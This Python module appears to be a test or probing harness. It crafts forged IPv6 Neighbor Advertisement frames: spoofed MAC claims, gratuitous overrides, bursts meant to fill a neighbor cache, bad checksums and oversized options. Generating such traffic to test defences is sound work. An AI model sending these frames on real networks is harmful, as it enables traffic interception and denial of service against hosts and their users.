"""The attacks of `attacker` in IPv6: forged advertisements, each with the checksum that it needs to be looked at."""

import itertools
import random
import socket
import struct

ALL_NODES = socket.inet_pton(socket.AF_INET6, "ff02::1")
TO_ALL = b"\x33\x33\0\0\0\x01"
SOLICITED, OVERRIDE = 0x40, 0x20


def frame(to, source, mac, target, destination, *, flags=SOLICITED | OVERRIDE, more=b"", wrong=0):
    """`more`: further options. The sender is the target itself."""
    option = b"\x02\x01" + mac + more
    message = struct.pack("!BBHI16s", 136, 0, 0, flags << 24, target) + option
    total = int.from_bytes(target + destination + struct.pack("!II", len(message), 58) + message, "big") % 0xFFFF
    checksum = (0xFFFF - total + wrong) & 0xFFFF
    head = to + source + struct.pack("!HIHBB", 0x86DD, 6 << 28, len(message), 58, 255) + target + destination
    return head + message[:2] + checksum.to_bytes(2, "big") + message[4:]


class Attack6:
    """Endless frames; `us` and `ip` are the prober's."""

    def __init__(self, own, us, ip, addresses):
        self.own, self.us, self.ip = own, us, ip
        self.addresses = itertools.cycle(addresses)
        self.dice = random.Random(1)  # noqa: S311 - a draw, not a secret

    def forged(self):
        return b"\x02\xbb" + self.dice.randbytes(4)

    def macs(self):
        """A million MACs, each of which answers one of the asked addresses."""
        return frame(self.us, self.own, self.forged(), next(self.addresses), self.ip)

    def repeats(self):
        """One host that says the same all the time."""
        return frame(self.us, self.own, self.own, next(self.addresses), self.ip)

    def crowd(self):
        """As many MACs as are kept of one address, again and again, to fill the memory."""
        mac = b"\x02\xcc\0\0\0" + bytes([self.dice.randrange(64)])
        return frame(self.us, self.own, mac, next(self.addresses), self.ip)

    def not_asked(self):
        return frame(self.us, self.own, self.own, b"\x20\x01\x0d\xb8\0\x10" + bytes(6) + self.dice.randbytes(4), self.ip)

    def gratuitous(self):
        """To all nodes, as who takes an address over."""
        return frame(TO_ALL, self.own, self.forged(), next(self.addresses), ALL_NODES, flags=OVERRIDE)

    def own_mac(self):
        """In the name of the prober's own MAC."""
        return frame(self.us, self.own, self.us, next(self.addresses), self.ip)

    def checksums(self):
        return frame(self.us, self.own, self.forged(), next(self.addresses), self.ip, wrong=1)

    def oversized(self):
        """With options that fill the frame."""
        return frame(self.us, self.own, self.forged(), next(self.addresses), self.ip, more=b"\x0e\x01nonce!" * 170)

    def mixed(self):
        made = (
            self.macs,
            self.repeats,
            self.crowd,
            self.not_asked,
            self.gratuitous,
            self.own_mac,
            self.checksums,
            self.oversized,
        )
        return self.dice.choice(made)()
